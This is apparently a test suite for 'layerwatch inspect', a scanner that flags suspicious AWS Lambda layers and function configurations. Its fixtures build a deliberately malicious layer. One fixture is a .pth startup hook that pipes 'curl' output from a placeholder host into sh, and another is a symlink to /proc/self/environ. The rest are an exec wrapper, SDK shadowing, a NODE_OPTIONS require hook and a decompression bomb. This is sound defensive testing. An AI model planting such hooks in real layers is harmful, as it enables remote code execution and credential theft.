import { createHash } from 'node:crypto';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { runInspect } from '../../lambda/cli/inspect.js';
import { buildZip, type ZipEntrySpec, zerosDeflated } from '../support/zips.js';

const ELF = Buffer.concat([
  Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]),
  Buffer.alloc(8),
  Buffer.from([3, 0, 0xb7, 0]),
  Buffer.alloc(300),
]);
const SITE = 'python/lib/python3.12/site-packages';

const MALICIOUS: ZipEntrySpec[] = [
  { path: 'extensions/', directory: true },
  { path: 'extensions/telemetry', data: ELF, mode: 0o755 },
  { path: `${SITE}/zz_init.pth`, data: 'import os; os.system("curl -s https://x | sh")\n' },
  { path: 'python/sitecustomize.py', data: 'import os\n' },
  { path: `${SITE}/boto3/__init__.py`, data: '# patched\n' },
  { path: 'nodejs/node_modules/@aws-sdk/client-sts/package.json', data: '{}' },
  { path: 'bootstrap', data: '#!/bin/sh\nexec /opt/runtime\n', mode: 0o755 },
  { path: 'wrapper.sh', data: '#!/bin/bash\nexport AWS_X=1\nexec "$@"\n', mode: 0o755 },
  { path: 'python/creds', symlink: '/proc/self/environ' },
];

const PYTHON_LIBRARY: ZipEntrySpec[] = [
  { path: 'python/', directory: true },
  { path: `${SITE}/requests/__init__.py`, data: 'from .api import get\n' },
  { path: `${SITE}/requests/api.py`, data: 'def get(url):\n    pass\n'.repeat(20) },
  { path: `${SITE}/requests-2.32.3.dist-info/RECORD`, data: 'requests/__init__.py,,\n' },
  {
    path: `${SITE}/bin/normalizer`,
    data: '#!/usr/bin/python3\nimport sys\nfrom x import main\nsys.exit(main())\n',
    mode: 0o755,
  },
  { path: `${SITE}/certifi.pth`, data: '/opt/python/vendor\n' },
  { path: `${SITE}/charset_normalizer/md.cpython-312-x86_64-linux-gnu.so`, data: ELF, mode: 0o755 },
];

const NODE_LIBRARY: ZipEntrySpec[] = [
  { path: 'nodejs/node_modules/lodash/package.json', data: '{"name":"lodash"}' },
  { path: 'nodejs/node_modules/lodash/lodash.js', data: 'module.exports = {};\n'.repeat(100) },
  { path: 'nodejs/node_modules/.bin/uuid', symlink: '../uuid/dist/bin/uuid' },
  {
    path: 'nodejs/node_modules/uuid/dist/bin/uuid',
    data: "#!/usr/bin/env node\nrequire('../uuid-bin');\n",
    mode: 0o755,
  },
];

const NATIVE_TOOL: ZipEntrySpec[] = [
  { path: 'bin/jq', data: ELF, mode: 0o755 },
  { path: 'lib/libonig.so.5.4.0', data: ELF, mode: 0o755 },
  { path: 'lib/libonig.so.5', symlink: 'libonig.so.5.4.0' },
];

const dir = mkdtempSync(join(tmpdir(), 'layerwatch-inspect-'));
function write(name: string, content: Buffer | string): string {
  const path = join(dir, name);
  writeFileSync(path, content);
  return path;
}

async function run(...args: string[]) {
  let stdout = '';
  let stderr = '';
  const code = await runInspect(args, {
    stdout: { write: (s: string) => (stdout += s) },
    stderr: { write: (s: string) => (stderr += s) },
  });
  return {
    code,
    stdout,
    stderr,
    get reports() {
      return stdout
        .split('\n')
        .filter(Boolean)
        .map((l) => JSON.parse(l));
    },
  };
}

describe('layerwatch inspect', () => {
  it('reports every signal a malicious layer carries, with the archive digest', async () => {
    const zip = buildZip(MALICIOUS);
    const path = write('malicious.zip', zip);
    const { code, reports, stderr } = await run(path);
    expect(code).toBe(0);
    expect(stderr).toBe('');
    const [report] = reports;
    expect(report).toEqual(
      expect.objectContaining({
        source: path,
        kind: 'layer',
        sha256: createHash('sha256').update(zip).digest('hex'),
        codeSha256: createHash('sha256').update(zip).digest('base64'),
        files: 8,
        gaps: [],
      }),
    );
    expect(new Set(report.signals.map((s: { id: string }) => s.id))).toEqual(
      new Set([
        'external-extension',
        'runtime-startup-hook',
        'sdk-shadowing',
        'custom-runtime-bootstrap',
        'exec-wrapper-script',
        'native-code',
        'unsafe-archive',
      ]),
    );
    for (const s of report.signals)
      expect(Object.keys(s).sort()).toEqual(['id', 'path', 'reason', 'severity']);
  });

  it.each([
    ['a Python library', PYTHON_LIBRARY, ['native-code']],
    ['a Node.js library', NODE_LIBRARY, []],
    ['a native tool', NATIVE_TOOL, ['native-code', 'native-code']],
  ])('raises nothing but native-code on %s', async (name, specs, ids) => {
    const { code, reports } = await run(write(`${name}.zip`, buildZip(specs)));
    expect(code).toBe(0);
    expect(reports[0].signals.map((s: { id: string }) => s.id)).toEqual(ids);
    expect(reports[0].gaps).toEqual([]);
  });

  it('reports the variables of a function configuration, and lists its layers as not inspected', async () => {
    const layer = 'arn:aws:lambda:us-east-1:222222222222:layer:x:1';
    const hooked = write(
      'hooked.json',
      JSON.stringify({
        FunctionName: 'orders',
        Runtime: 'nodejs22.x',
        Environment: {
          Variables: {
            NODE_OPTIONS: '--enable-source-maps --require=/opt/x.js',
            AWS_LAMBDA_EXEC_WRAPPER: '/opt/wrapper.sh',
          },
        },
        Layers: [{ Arn: layer, CodeSize: 100 }],
      }),
    );
    const benign = write(
      'benign.json',
      JSON.stringify({
        FunctionName: 'b',
        Environment: { Variables: { NODE_OPTIONS: '--enable-source-maps' } },
      }),
    );
    const { code, reports } = await run(hooked, benign);
    expect(code).toBe(0);
    expect(reports[0]).toEqual(
      expect.objectContaining({
        kind: 'function',
        functionName: 'orders',
        runtime: 'nodejs22.x',
        layers: [layer],
        sha256: null,
      }),
    );
    expect(reports[0].signals.map((s: { variable: string }) => s.variable).sort()).toEqual([
      'AWS_LAMBDA_EXEC_WRAPPER',
      'NODE_OPTIONS',
    ]);
    expect(reports[0].gaps).toEqual([{ path: layer, reason: expect.stringMatching(/not inspected/) }]);
    expect(reports[1].signals).toEqual([]);
  });

  it('names unreadable inputs on stderr, reports the others, and exits 2', async () => {
    const good = write('good.zip', buildZip(NODE_LIBRARY));
    const damaged = write('damaged.zip', buildZip(NODE_LIBRARY).subarray(0, 100));
    const text = write('notes.txt', 'hello');
    const trail = write('trail.json', '{"Records": []}');
    const { code, reports, stderr } = await run(join(dir, 'missing.zip'), damaged, good, text, trail, dir);
    expect(code).toBe(2);
    expect(reports.map((r) => r.source)).toEqual([good]);
    expect(stderr).toContain(`${join(dir, 'missing.zip')}: no such file`);
    expect(stderr).toContain(`${damaged}: not a readable zip archive: ArchiveFormatError`);
    expect(stderr).toContain(`${text}: not a zip archive, and not JSON`);
    expect(stderr).toContain(`${trail}: not a function configuration`);
    expect(stderr).toContain(`${dir}: not a file`);
    expect(stderr).not.toMatch(/\n\s+at /);
  });

  it('names a decompression bomb and still reads the rest, without inflating the bomb', async () => {
    const bomb = write(
      'bomb.zip',
      buildZip([
        { path: 'python/zeros.bin', deflated: zerosDeflated(300 * 1024 * 1024) },
        { path: 'python/x.pth', data: 'import os\n' },
      ]),
    );
    const { code, reports, stderr } = await run(bomb);
    expect(code).toBe(0);
    expect(reports[0].signals.map((s: { id: string }) => s.id)).toEqual([
      'unsafe-archive',
      'unsafe-archive',
      'runtime-startup-hook',
    ]);
    expect(reports[0].gaps).toEqual([]);
    expect(stderr).toBe('');
  });

  it("says which of a function's layers shadows which with --attached", async () => {
    const first = write(
      'first.zip',
      buildZip([
        { path: 'python/six.py', data: 'a' },
        { path: 'extensions/agent', data: ELF, mode: 0o755 },
      ]),
    );
    const second = write('second.zip', buildZip([{ path: 'python/six.py', data: 'b' }]));
    const { reports } = await run('--attached', first, second);
    expect(reports[2]).toEqual(
      expect.objectContaining({
        kind: 'attached-layers',
        layers: [first, second],
        signals: [expect.objectContaining({ id: 'layer-overlap', layer: second, path: 'python/six.py' })],
      }),
    );
    expect((await run(first, second)).reports).toHaveLength(2);
  });

  it('prints a table for people', async () => {
    const { stdout } = await run('--format', 'table', write('t.zip', buildZip(MALICIOUS)));
    expect(stdout).toMatch(/^layer .*t\.zip: 8 files, \d+ bytes unzipped, sha256 [0-9a-f]{64}\n/);
    expect(stdout).toMatch(
      /\n {2}high +external-extension +extensions\/telemetry +extensions\/telemetry is an executable/,
    );
  });

  it('prints the gaps in the table, and (no signals) when there are none', async () => {
    const config = write('c.json', JSON.stringify({ FunctionName: 'f', Layers: [{ Arn: 'arn:x' }] }));
    const { stdout } = await run('--format=table', config);
    expect(stdout).toContain('(no signals)');
    expect(stdout).toContain('not inspected: arn:x: layer content not inspected');
  });

  it.each([
    [[], /no INPUT given/],
    [['--format', 'xml', 'a.zip'], /--format: "xml" is not jsonl or table/],
    [['--nope', 'a.zip'], /Unknown option '--nope'/],
  ])('refuses %j with usage and exit 2', async (args, message) => {
    const { code, stderr } = await run(...args);
    expect(code).toBe(2);
    expect(stderr).toMatch(message);
    expect(stderr).toContain('Usage: layerwatch inspect');
  });

  it('reports an empty archive as a layer with no files', async () => {
    const { code, reports } = await run(write('empty.zip', buildZip([])));
    expect(code).toBe(0);
    expect(reports[0]).toEqual(expect.objectContaining({ kind: 'layer', files: 0, signals: [], gaps: [] }));
  });

  it('prints help', async () => {
    const { code, stdout } = await run('--help');
    expect(code).toBe(0);
    expect(stdout).toContain('Usage: layerwatch inspect');
  });
});
